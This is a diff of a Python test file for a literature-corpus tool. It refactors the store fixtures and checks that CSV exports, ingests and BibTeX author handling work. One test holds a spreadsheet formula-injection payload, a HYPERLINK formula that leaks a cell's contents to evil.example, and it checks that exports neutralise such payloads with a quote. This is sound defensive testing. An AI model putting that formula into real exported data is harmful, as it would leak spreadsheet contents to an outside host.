@@ -5,7 +5,6 @@ from __future__ import annotations
 
 import csv
 import re
-import sqlite3
 from pathlib import Path
 
 import pytest
@@ -15,6 +14,7 @@ from corpus.exports import WRITERS, author_name, bibtex_entry, iter_records, ref
 from corpus.search import search
 from corpus.store import Store
 from harvester.ingest import ingest_files
+from research_corpus import copy_store
 
 COHEN = Path("cohen-2006") / "output"
 NLM_LABEL = re.compile(r"^[A-Z][A-Z0-9 ,&/()-]{1,60}$")
@@ -23,10 +23,7 @@ NLM_LABEL = re.compile(r"^[A-Z][A-Z0-9 ,&/()-]{1,60}$")
 @pytest.fixture
 def full_store(research_store_path: Path, tmp_path: Path) -> Store:
     """A copy of the research corpus (every shared record, with tags) to write into."""
-    copy = tmp_path / "corpus.db"
-    with sqlite3.connect(research_store_path) as source, sqlite3.connect(copy) as target:
-        source.backup(target)
-    with Store(copy) as store:
+    with Store(copy_store(research_store_path, tmp_path / "corpus.db")) as store:
         yield store
 
 
@@ -97,8 +94,7 @@ def lines_are_ambiguous(article: Article) -> bool:
 
 
 @pytest.mark.parametrize("form", ["jsonl", "csv", "ris"])
-def test_an_export_ingested_into_a_new_store_gives_back_every_field_it_carries(form, exported, research_store):
-    store = Store(":memory:")
+def test_an_export_ingested_into_a_new_store_gives_back_every_field_it_carries(store, form, exported, research_store):
     report = ingest_files(store, [exported[form]])
     assert report.ok, report.errors
     assert report.totals.new == research_store.count_articles() > 5000
@@ -200,13 +196,12 @@ def test_a_retracted_paper_and_its_notice_stay_so_in_a_store_built_from_the_expo
         assert theirs.get_article("99000010").is_notice  # and so no evidence there either
 
 
-def test_group_authors_sent_back_as_csv_or_ris_are_braced_in_bibtex(tmp_path):
+def test_group_authors_sent_back_as_csv_or_ris_are_braced_in_bibtex(store, tmp_path):
     csv_file, ris_file = tmp_path / "back.csv", tmp_path / "back.ris"
     csv_file.write_text('pmid,title,authors,year\n11157525,Nasal diamorphine spray.,"Kendall, J M; Nasal Diamorphine Trial Group",2001\n',
                         encoding="utf-8")
     ris_file.write_text("TY  - JOUR\nAU  - Gatta, Gemma\nAU  - EUROCARE Working Group\nAU  - Tumour and Angiogenesis Research Group\n"
                         "TI  - Childhood cancer survival.\nPY  - 2005\nAN  - 15923571\nDB  - PubMed\nER  - \n", encoding="utf-8")
-    store = Store(":memory:")
     assert ingest_files(store, [csv_file, ris_file]).ok
     records = list(iter_records(store, ["11157525", "15923571"]))
     assert [r["collective_authors"] for r in records] == [["Nasal Diamorphine Trial Group"],
@@ -227,15 +222,15 @@ def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote_and_co
         Article("2", "+/- 5 mg: '=' in a title", journal="'=quoted' journal", volume="''-2", issue="'Spring'", doi="10.1000/x",
                 keywords=["'@", "''"], pub_date="2021", pub_date_sort="2021-01-01"),
     ]
-    ours, theirs = Store(":memory:"), Store(":memory:")
-    ours.upsert_articles(articles)
-    path = tmp_path / "export.csv"
-    with open(path, "w", encoding="utf-8", newline="") as out:
-        WRITERS["csv"](iter_records(ours, ["1", "2"]), out)
-    with open(path, encoding="utf-8", newline="") as written:
-        cells = [cell for row in csv.reader(written) for cell in row]
-    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
-    assert {'\'=HYPERLINK("http://evil.example/?leak="&A1,"click")', "'=1+2", "'-", "'-1", "'+/- 5 mg: '=' in a title", "'''-2"} <= set(cells)
-    assert ingest_files(theirs, [path]).ok
-    for original in articles:
-        assert carried(theirs.get_article(original.pmid), "csv") == carried(original, "csv")
+    with Store(":memory:") as ours, Store(":memory:") as theirs:
+        ours.upsert_articles(articles)
+        path = tmp_path / "export.csv"
+        with open(path, "w", encoding="utf-8", newline="") as out:
+            WRITERS["csv"](iter_records(ours, ["1", "2"]), out)
+        with open(path, encoding="utf-8", newline="") as written:
+            cells = [cell for row in csv.reader(written) for cell in row]
+        assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+        assert {'\'=HYPERLINK("http://evil.example/?leak="&A1,"click")', "'=1+2", "'-", "'-1", "'+/- 5 mg: '=' in a title", "'''-2"} <= set(cells)
+        assert ingest_files(theirs, [path]).ok
+        for original in articles:
+            assert carried(theirs.get_article(original.pmid), "csv") == carried(original, "csv")
